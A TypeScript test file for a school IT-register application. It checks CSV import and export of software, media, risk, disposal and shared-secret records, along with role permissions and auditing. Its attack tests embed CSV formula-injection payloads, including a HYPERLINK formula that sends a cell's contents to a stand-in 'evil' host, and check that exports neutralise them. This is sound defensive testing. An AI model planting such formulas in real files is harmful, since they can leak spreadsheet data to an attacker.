import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseBody } from '../../src/audit/chain.js';
import type { Role } from '../../src/core/authz.js';
import { systemActor } from '../../src/core/context.js';
import { createAccount } from '../../src/identity/service.js';
import { softwareDue } from '../../src/registers/software.js';
import { dialects } from '../helpers/databases.js';
import { setUpSchool, signIn, startTestApp, type Session, type TestApp } from '../helpers/runtime.js';

/**
 * Issue 12: CSV import and export for every register beyond equipment: software titles and licences
 * (AS-06, AS-07), removable media (AS-10), disposals (AS-03, AS-04, export), the risk register
 * (GV-01) and the shared-secrets register (PW-12, export). One import path: every row checked,
 * nothing stored on any error, each error naming line and column; the import and its audit event in
 * one transaction. Hostile files (formulas, NUL bytes, unclosed quotes, duplicate keys, 10 MB, not
 * UTF-8) and the wrong roles are attacked on every import route.
 */

const PASSWORD = 'Violet-Harbour-Lantern-7';
const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

/** The import routes, each with a good file's header and one good row (so attacks change one thing at a time). */
const imports = {
  software: { url: '/api/software/import', header: 'title,publisher,purpose,seats,bought_on,expires_on,reference', row: (n: string) => `Tool ${n},Acme,Lessons,10,2026-01-01,,PO-${n}`, list: '/api/software', manager: 'office' as Role },
  media: { url: '/api/media/import', header: 'label,encrypted,holder,issued_on,returned_on', row: (n: string) => `USB-${n},yes,Mr Smith,2026-09-01,`, list: '/api/media', manager: 'office' as Role },
  risks: { url: '/api/risks/import', header: 'title,owner,likelihood,impact,treatment,review_at', row: (n: string) => `Risk ${n},IT lead,2,3,Mitigated,2027-01-31`, list: '/api/risks', manager: 'senior_leader' as Role },
};

for (const dialect of await dialects()) {
  describe(`register CSV import and export on ${dialect}`, () => {
    let t: TestApp;
    let admin: Session;
    const sessions = new Map<string, Session>();
    const api = async (session: Session | null, method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload?: unknown, headers: Record<string, string> = {}) => {
      const response = await t.app.inject({ method, url, headers: { ...(session?.headers ?? {}), ...headers }, payload: payload as object, remoteAddress: '127.0.0.1' });
      const json = response.headers['content-type']?.toString().includes('json') ? (response.json() as any) : undefined;
      return { status: response.statusCode, body: json, text: response.body, headers: response.headers };
    };
    const as = async (role: Role, suffix = '1'): Promise<Session> => {
      const username = `${role.replace('_', '')}${suffix}`;
      if (!sessions.has(username)) {
        const hash = await t.runtime.hasher.hash(PASSWORD);
        await t.runtime.trail.transaction(systemActor('test'), (ctx) => createAccount(ctx, { username, displayName: `A ${role} ${suffix}`, email: null, role, passwordHash: hash }));
        sessions.set(username, await signIn(t, username, PASSWORD));
      }
      return sessions.get(username)!;
    };
    const events = async (action: string) =>
      (await t.runtime.db.kysely.selectFrom('audit_event').select(['action', 'actor', 'body']).where('action', '=', action).orderBy('seq').execute()).map((e) => ({ actor: e.actor, details: parseBody(e.body).details as Record<string, any> }));
    const count = async (kind: keyof typeof imports, session: Session) => {
      const body = (await api(session, 'GET', imports[kind].list)).body;
      return (body.titles ?? body.media ?? body.risks).length as number;
    };

    beforeAll(async () => {
      t = await startTestApp(dialect);
      admin = await setUpSchool(t);
    });
    afterAll(async () => {
      await t.close();
    });

    it('AS-06 AS-07 a software CSV adds titles awaiting approval and their licences; licences for a title already registered add seats; over-use against the inventory is flagged', async () => {
      const office = await as('office');
      const made = await api(office, 'POST', '/api/software', { name: 'Microsoft Office', purpose: 'Office suite' });
      expect(made.status).toBe(201);
      const inventory = 'Device name,Apps\nPC-01,Microsoft Office; Zoom\nPC-02,Microsoft Office;Zoom\nPC-03,Zoom\n';
      expect((await api(office, 'POST', '/api/inventory/import', { csv: inventory })).status).toBe(201);
      const csv = [
        '\uFEFFTitle,Publisher,Purpose,Seats,Bought on,Expires on,Reference',
        'Zoom,Zoom Video,"Parents\' evenings, online",2,2026-01-01,2027-01-01,ZM-2026',
        'Microsoft Office,,,1,2026-02-01,,EES-2026',
        'Purple Mash,2Simple,Computing curriculum,,,,',
      ].join('\r\n');
      const imported = await api(office, 'POST', '/api/software/import', { csv });
      expect(imported.status, JSON.stringify(imported.body)).toBe(201);
      expect(imported.body).toEqual({ titles: 2, licences: 2 });
      const { titles } = (await api(office, 'GET', '/api/software')).body;
      const by = Object.fromEntries(titles.map((x: any) => [x.name, x]));
      // An import never approves: new titles wait for the headteacher and the DPO, like one added by hand (AS-07).
      expect(by['Zoom']).toMatchObject({ status: 'pending', publisher: 'Zoom Video', purpose: "Parents' evenings, online", requestedBy: 'office1', seats: 2, installations: 3, overUsed: true });
      expect(by['Purple Mash']).toMatchObject({ status: 'pending', seats: 0, installations: 0, overUsed: false });
      expect(by['Microsoft Office']).toMatchObject({ seats: 1, installations: 2, overUsed: true, licences: [expect.objectContaining({ reference: 'EES-2026' })] });
      expect((await softwareDue(t.runtime)).filter((d) => d.kind === 'licence_over_used').map((d) => d.title)).toEqual(expect.arrayContaining([expect.stringContaining('Zoom'), expect.stringContaining('Microsoft Office')]));
      const [event] = await events('software.imported');
      expect(event).toMatchObject({ actor: 'office1', details: { rows: 3, titlesAdded: ['Zoom', 'Purple Mash'] } });
      expect(event!.details.licences).toEqual(expect.arrayContaining([{ name: 'Zoom', seats: 2, reference: 'ZM-2026' }, { name: 'Microsoft Office', seats: 1, reference: 'EES-2026' }]));
      // The per-title events of a form are not written for an import: one event for the file.
      expect(await events('software.title_added')).toHaveLength(1);
    });

    it('AS-06 attack: a software CSV naming a title twice, a registered title without a licence, a licence already recorded, or bad seats imports nothing and names each line and column', async () => {
      const office = await as('office');
      const before = await count('software', office);
      const csv = [
        'title,publisher,purpose,seats,bought_on,expires_on,reference',
        'Scratch,MIT,Coding,,,,',
        'scratch,MIT,Coding again,,,,',
        'Purple Mash,2Simple,Computing,,,,',
        'Zoom,,,5,2026-03-01,,ZM-2026',
        'Kahoot,Kahoot!,Quizzes,ten,2026-03-01,,K-1',
        'Seesaw,Seesaw,Portfolios,5,2026-03-01,2025-01-01,S-1',
        'Padlet,,,,,,',
      ].join('\n');
      const bad = await api(office, 'POST', '/api/software/import', { csv });
      expect(bad.status).toBe(400);
      expect(bad.body.error.code).toBe('validation_failed');
      expect(bad.body.error.details.errors.map((e: any) => `${e.line}:${e.column}`)).toEqual(['3:title', '4:title', '5:title', '6:seats', '7:expires_on', '8:purpose']);
      expect(bad.body.error.message).toContain('nothing was imported');
      expect(await count('software', office)).toBe(before);
      expect(await events('software.imported')).toHaveLength(1);
    });

    it('AS-10 a removable-media CSV issues encrypted drives only; the register exports as CSV with formulas neutralised', async () => {
      const office = await as('office');
      const refused = await api(office, 'POST', '/api/media/import', { csv: 'label,encrypted,holder,issued_on\nUSB-01,yes,Mrs Jones,2026-09-01\nUSB-02,no,Mr Smith,2026-09-01\nUSB-03,maybe,Mr Smith,2026-09-01\nUSB-04,yes,,2026-13-01\nUSB-05,yes,Mr Smith,2026-12-01\n' });
      expect(refused.status).toBe(400);
      expect(refused.body.error.details.errors.map((e: any) => `${e.line}:${e.column}`)).toEqual(['3:encrypted', '4:encrypted', '5:holder', '5:issued_on', '6:issued_on']);
      expect(refused.body.error.details.errors[0].message).toContain('encrypted');
      expect(await count('media', office)).toBe(0);
      const good = await api(office, 'POST', '/api/media/import', { csv: 'Label,Encrypted,Holder,Issued on,Returned on\nUSB-01,yes,Mrs Jones,2026-09-01,\nUSB-02,yes,"=HYPERLINK(""http://evil/""&A1)",2026-08-01,2026-09-02\n' });
      expect(good.status, JSON.stringify(good.body)).toBe(201);
      expect(good.body).toEqual({ drives: 2 });
      const media = (await api(office, 'GET', '/api/media')).body.media;
      expect(media.map((m: any) => [m.label, m.encrypted, m.returnedOn])).toEqual([['USB-01', true, null], ['USB-02', true, '2026-09-02']]);
      expect(await events('media.imported')).toEqual([expect.objectContaining({ actor: 'office1', details: expect.objectContaining({ rows: 2 }) })]);
      // The same labels again: already in the register.
      const again = await api(office, 'POST', '/api/media/import', { csv: 'label,encrypted,holder,issued_on\nusb-01,yes,Mrs Jones,2026-09-01\n' });
      expect(again.body.error.details.errors).toEqual([expect.objectContaining({ line: 2, column: 'label', message: expect.stringContaining('already in the register') })]);
      const csv = await api(await as('dpo'), 'GET', '/api/media/export.csv');
      expect(csv.status).toBe(200);
      expect(csv.headers['content-type']).toContain('text/csv');
      expect(csv.headers['content-disposition']).toMatch(/attachment; filename="removable-media-\d{4}-\d{2}-\d{2}\.csv"/);
      const lines = csv.text.replace(/^\uFEFF/, '').split('\r\n');
      expect(lines[0]).toBe('label,encrypted,holder,issued_on,returned_on');
      expect(lines[2]).toBe(`USB-02,yes,"'=HYPERLINK(""http://evil/""&A1)",2026-08-01,2026-09-02`);
      expect(await events('media.exported')).toEqual([expect.objectContaining({ actor: 'dpo1' })]);
      expect((await api(await as('staff'), 'GET', '/api/media/export.csv')).status).toBe(403);
    });

    it('AS-03 AS-04 the disposal records export as CSV with who authorised, method, recipient and each certificate’s SHA-256; audited', async () => {
      const office = await as('office');
      const item = (await api(office, 'POST', '/api/equipment', { tag: 'GH-0900', type: 'laptop', description: '@SUM(1,2) Dell', location: 'Office', serial: 'SN-900' })).body;
      for (const kind of ['weee', 'data_destruction']) expect((await api(office, 'POST', `/api/equipment/${item.id}/certificates`, { kind, filename: `${kind}.pdf`, data: PDF.toString('base64') })).status).toBe(201);
      const head = await as('senior_leader');
      const disposed = await api(head, 'POST', `/api/equipment/${item.id}/dispose`, { disposedOn: '2026-09-06', licencesChecked: true, personalData: 'none', destruction: 'Wiped (NIST 800-88 purge)', method: 'waste', recipient: 'Greenbridge Recycling Ltd' });
      expect(disposed.status, JSON.stringify(disposed.body)).toBe(200);
      const csv = await api(await as('dpo'), 'GET', '/api/equipment/disposals/export.csv');
      expect(csv.status).toBe(200);
      const lines = csv.text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
      expect(lines[0]).toBe('tag,serial,type,description,disposed_on,method,recipient,authorised_by,personal_data,destruction,licences_checked,certificates,recorded_at,recorded_by');
      expect(lines).toHaveLength(2);
      expect(lines[1]).toContain(`GH-0900,SN-900,laptop,"'@SUM(1,2) Dell",2026-09-06,waste,Greenbridge Recycling Ltd,A senior_leader 1,none,Wiped (NIST 800-88 purge),yes,`);
      const sha = (await api(office, 'GET', `/api/equipment/${item.id}`)).body.certificates.map((c: any) => c.sha256);
      expect(lines[1]).toContain(`sha256:${sha[0]}`);
      expect(lines[1]).toContain('WEEE transfer note');
      expect(await events('equipment.disposals_exported')).toEqual([expect.objectContaining({ actor: 'dpo1', details: { rows: 1 } })]);
      expect((await api(await as('governor'), 'GET', '/api/equipment/disposals/export.csv')).status).toBe(403);
    });

    it('GV-01 risks are added, edited without counting as a review, reviewed, closed and exported; every change audited', async () => {
      const head = await as('senior_leader');
      const risk = (await api(head, 'POST', '/api/risks', { title: 'Phishing', owner: 'Business manager', likelihood: 4, impact: 4, treatment: 'Training and MFA', reviewAt: '2026-12-01' })).body;
      const reviewedAt = risk.reviewedAt;
      t.clock.advance(60_000);
      const edited = await api(head, 'PATCH', `/api/risks/${risk.id}`, { owner: 'Headteacher', treatment: 'Training, MFA and a reporting button' });
      expect(edited.status, JSON.stringify(edited.body)).toBe(200);
      expect(edited.body).toMatchObject({ owner: 'Headteacher', treatment: 'Training, MFA and a reporting button', score: 16, reviewedAt, reviewAt: '2026-12-01T00:00:00.000Z' });
      expect(await events('risk.edited')).toEqual([expect.objectContaining({ details: { previous: { owner: 'Business manager', treatment: 'Training and MFA' }, owner: 'Headteacher', treatment: 'Training, MFA and a reporting button' } })]);
      expect((await api(head, 'PATCH', `/api/risks/${risk.id}`, {})).status).toBe(400);
      expect((await api(head, 'PATCH', `/api/risks/${risk.id}`, { likelihood: 1 })).status).toBe(400);
      const reviewed = await api(head, 'PUT', `/api/risks/${risk.id}`, { title: 'Phishing', owner: 'Headteacher', likelihood: 3, impact: 4, treatment: 'As before', reviewAt: '2027-03-01' });
      expect(reviewed.body).toMatchObject({ score: 12, reviewAt: '2027-03-01T00:00:00.000Z' });
      expect(reviewed.body.reviewedAt).not.toBe(reviewedAt);
      // A governor sees the register but changes nothing.
      const governor = await as('governor');
      expect((await api(governor, 'GET', '/api/risks')).status).toBe(200);
      expect((await api(governor, 'PATCH', `/api/risks/${risk.id}`, { owner: 'x' })).status).toBe(403);
      expect((await api(governor, 'DELETE', `/api/risks/${risk.id}`)).status).toBe(403);
      const csv = await api(governor, 'GET', '/api/risks/export.csv');
      expect(csv.text.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe('title,owner,likelihood,impact,treatment,review_at,score,reviewed_at');
      expect(csv.text).toContain('Phishing,Headteacher,3,4,As before,2027-03-01,12,');
      expect((await api(head, 'DELETE', `/api/risks/${risk.id}`)).status).toBe(204);
      expect((await api(head, 'DELETE', `/api/risks/${risk.id}`)).status).toBe(404);
      expect((await api(head, 'PATCH', `/api/risks/${risk.id}`, { owner: 'x' })).status).toBe(404);
      expect((await events('risk.closed')).length).toBe(1);
    });

    it('GV-01 a risk CSV imports all or nothing; an exported register imports back; a title already open is refused', async () => {
      const head = await as('senior_leader');
      const bad = await api(head, 'POST', '/api/risks/import', {
        csv: 'title,owner,likelihood,impact,treatment,review_at\nRansomware,IT lead,3,5,Offline backups,2027-01-31\nData loss,,6,0,Encryption,2026-01-01\nransomware,IT lead,3,5,x,2027-01-31\n',
      });
      expect(bad.status).toBe(400);
      expect(bad.body.error.details.errors.map((e: any) => `${e.line}:${e.column}`)).toEqual(['3:owner', '3:likelihood', '3:impact', '4:title']);
      expect(await count('risks', head)).toBe(0);
      // A review date in the past is refused (the form refuses it too).
      const past = await api(head, 'POST', '/api/risks/import', { csv: 'title,owner,likelihood,impact,treatment,review_at\nRansomware,IT lead,3,5,Offline backups,2026-09-01\n' });
      expect(past.body.error.details.errors).toEqual([{ line: 2, column: 'review_at', message: 'the next review must be in the future' }]);
      const good = await api(head, 'POST', '/api/risks/import', { csv: 'Title,Owner,Likelihood,Impact,Treatment,Review at\nRansomware,IT lead,3,5,"Offline backups, tested",2027-01-31\n"=1+1",DPO,1,2,"@cmd",2027-02-28\n' });
      expect(good.status, JSON.stringify(good.body)).toBe(201);
      expect(good.body).toEqual({ imported: 2 });
      expect(await events('risk.imported')).toEqual([expect.objectContaining({ actor: 'seniorleader1', details: expect.objectContaining({ rows: 2 }) })]);
      const exported = (await api(head, 'GET', '/api/risks/export.csv')).text;
      expect(exported).toContain(`'=1+1,DPO,1,2,'@cmd,2027-02-28`);
      expect(exported).toContain('Ransomware,IT lead,3,5,"Offline backups, tested",2027-01-31,15,');
      // The same file again: each title is already open (a neutralised '=1+1 reads back as =1+1).
      const again = await api(head, 'POST', '/api/risks/import', { csv: exported });
      expect(again.body.error.details.errors.map((e: any) => `${e.line}:${e.column}`)).toEqual(['2:title', '3:title']);
      // Closed, they import back from the export unchanged (its extra columns are ignored).
      for (const r of (await api(head, 'GET', '/api/risks')).body.risks) await api(head, 'DELETE', `/api/risks/${r.id}`);
      const back = await api(head, 'POST', '/api/risks/import', { csv: exported });
      expect(back.status, JSON.stringify(back.body)).toBe(201);
      expect((await api(head, 'GET', '/api/risks')).body.risks.map((r: any) => [r.title, r.score])).toEqual([['Ransomware', 15], ['=1+1', 2]]);
    });

    it('PW-12 the shared-secrets register exports as CSV with holders and due dates, never a secret; audited; only for those who may read it', async () => {
      const holder = await t.runtime.trail.transaction(systemActor('test'), (ctx) => createAccount(ctx, { username: 'bursar', displayName: 'Bea Bursar', email: null, role: 'staff', passwordHash: null }));
      const made = await api(admin, 'POST', '/api/secrets', { name: 'Staff Wi-Fi key', kind: 'wifi', location: '-Sealed envelope in the safe', rotation: 'days', rotationDays: 90, holders: [holder] });
      expect(made.status, JSON.stringify(made.body)).toBe(201);
      const csv = await api(await as('senior_leader'), 'GET', '/api/secrets/export.csv');
      expect(csv.status).toBe(200);
      expect(csv.headers['cache-control']).toBe('no-store');
      const lines = csv.text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
      expect(lines[0]).toBe('name,kind,location,holders,rotation,last_rotated_at,next_due_at,overdue,flagged_at,flag_reason,notes,retired_at');
      expect(lines[1]).toMatch(/^Staff Wi-Fi key,Wi-Fi key,'-Sealed envelope in the safe,Bea Bursar \(bursar\),/);
      expect(await events('shared_secret.exported')).toEqual([expect.objectContaining({ actor: 'seniorleader1', details: { rows: 1, includeRetired: false } })]);
      for (const role of ['office', 'dpo', 'staff', 'governor'] as Role[]) expect((await api(await as(role), 'GET', '/api/secrets/export.csv')).status, role).toBe(403);
      expect((await api(null, 'GET', '/api/secrets/export.csv')).status).toBe(401);
    });

    for (const [kind, spec] of Object.entries(imports) as Array<[keyof typeof imports, (typeof imports)[keyof typeof imports]]>) {
      it(`${kind === 'software' ? 'AS-06' : kind === 'media' ? 'AS-10' : 'GV-01'} attack: a hostile ${kind} CSV (NUL bytes, unclosed quotes, not UTF-8, 10 MB, header only, missing column) imports nothing with a clear message, and other roles cannot import`, async () => {
        const manager = await as(spec.manager);
        const before = await count(kind, manager);
        const good = `${spec.header}\n${spec.row('A')}\n`;
        const refused = async (csv: string, pattern: RegExp) => {
          const r = await api(manager, 'POST', spec.url, { csv });
          expect(r.status, csv.slice(0, 80)).toBe(400);
          expect(r.body.error.message).toMatch(pattern);
        };
        await refused(`${spec.header}\n${spec.row('A')}\u0000\n`, /NUL character/);
        await refused(`${spec.header}\n"${spec.row('A')}\n`, /cannot be read as CSV/);
        await refused(`${spec.header}\n`, /no rows/);
        await refused(`${spec.header.split(',').slice(1).join(',')}\n${spec.row('A').split(',').slice(1).join(',')}\n`, /has no “.*” column/);
        // Windows-1252 bytes (é as 0xE9) sent as the file: the server reads U+FFFD and refuses it as not UTF-8.
        const latin1 = Buffer.concat([Buffer.from(`{"csv":"${spec.header}\\n${spec.row('Caf')}`), Buffer.from([0xe9]), Buffer.from('\\n"}')]);
        const notUtf8 = await api(manager, 'POST', spec.url, latin1, { 'content-type': 'application/json' });
        expect(notUtf8.status).toBe(400);
        expect(notUtf8.body.error.message).toMatch(/not UTF-8.*CSV UTF-8.*Nothing was imported/);
        // 10 MB: refused before it is parsed.
        const huge = await api(manager, 'POST', spec.url, { csv: `${spec.header}\n${`${spec.row('B')}\n`.repeat(Math.ceil((10 * 1024 * 1024) / spec.row('B').length))}` });
        expect(huge.status).toBe(413);
        expect(huge.body.error.message).toMatch(/too large/i);
        // A row count over the limit, in a file under the byte limit, is refused too.
        await refused(`${spec.header}\n${`${spec.row('C')}\n`.repeat(20_001)}`, /more than 20000 rows/);
        expect(await count(kind, manager)).toBe(before);
        // Roles without the manage permission: refused before the file is read.
        for (const role of ['staff', 'governor', 'dsl', 'pupil'] as Role[]) expect((await api(await as(role), 'POST', spec.url, { csv: good })).status, role).toBe(403);
        expect((await api(null, 'POST', spec.url, { csv: good })).status).toBe(401);
        expect(await count(kind, manager)).toBe(before);
        // The same good file from the right role imports.
        expect((await api(manager, 'POST', spec.url, { csv: good })).status).toBe(201);
        expect(await count(kind, manager)).toBe(before + 1);
      });
    }

    it('AS-06 AS-10 GV-01 attack: two imports of the same file at once store it once', async () => {
      for (const [kind, spec] of Object.entries(imports) as Array<[keyof typeof imports, (typeof imports)[keyof typeof imports]]>) {
        const manager = await as(spec.manager);
        const before = await count(kind, manager);
        const csv = `${spec.header}\n${spec.row('Race1')}\n${spec.row('Race2')}\n`;
        const results = await Promise.all([1, 2, 3].map(() => api(manager, 'POST', spec.url, { csv })));
        expect(results.filter((r) => r.status === 201), kind).toHaveLength(1);
        expect(results.filter((r) => r.status !== 201).every((r) => r.status === 400 || r.status === 409), kind).toBe(true);
        expect(await count(kind, manager), kind).toBe(before + 2);
      }
    });
  });
}
